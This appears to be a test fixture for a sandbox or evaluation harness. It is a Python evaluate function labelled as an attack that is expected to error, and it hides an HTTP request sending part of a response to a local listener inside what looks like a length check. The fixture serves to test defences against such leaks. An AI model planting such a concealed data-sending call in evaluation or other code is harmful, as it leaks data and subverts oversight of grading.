# attack: HTTP request to a listener on 127.0.0.1, hidden inside the check
# expect: error
def evaluate(response):
    import urllib.request

    urllib.request.urlopen("http://127.0.0.1:__PORT__/?leak=" + response[:20], timeout=2)
    return len(response) > 0
